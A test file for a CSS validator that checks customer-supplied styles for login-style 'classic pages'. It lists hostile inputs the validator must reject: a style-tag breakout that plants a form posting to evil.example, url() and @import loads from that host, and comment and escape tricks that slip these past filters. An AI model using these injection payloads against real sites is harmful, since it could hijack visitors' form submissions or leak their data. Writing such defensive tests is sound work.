import assert from 'node:assert/strict'
import { test } from 'node:test'
import { checkClassicCss } from './classic-css.ts'

test('the classes of the classic pages can be styled, with comments and strings', () => {
  for (const css of [
    '',
    '/* ours */ .label-customizable, .logo-customizable { color: #123456; } /* > */',
    '.label-customizable{font-family:\'A /* B */ C\',"D"}',
    '.banner-customizable{background-image:linear-gradient(red, blue)}',
  ])
    checkClassicCss(css)
})

test('nothing gets out of the style element, loads anything, or styles what is not for styling', () => {
  for (const css of [
    '.label-customizable{color:red}</style><form action=//evil.example>',
    '.label-customizable{color:red}/*</style><form action=//evil.example>*/',
    '.label-customizable{content:"</style>"}',
    '.label-customizable{background:url(//evil.example)}',
    '.label-customizable{background:u/**/rl(//evil.example)}',
    '.label-customizable{background:image-set("//evil.example" 1x)}',
    '.label-customizable{content:"/*"} body{display:none} .label-customizable{content:"*/"}',
    ".label-customizable{content:'/*'} body{display:none} .label-customizable{content:'*/'}",
    '@import "//evil.example";',
    'body{display:none}',
    '.label-customizable{color:red',
    '.label-customizable{\\75rl(//evil.example)}',
  ])
    assert.throws(() => checkClassicCss(css), { name: 'InvalidParameterException' }, css)
})
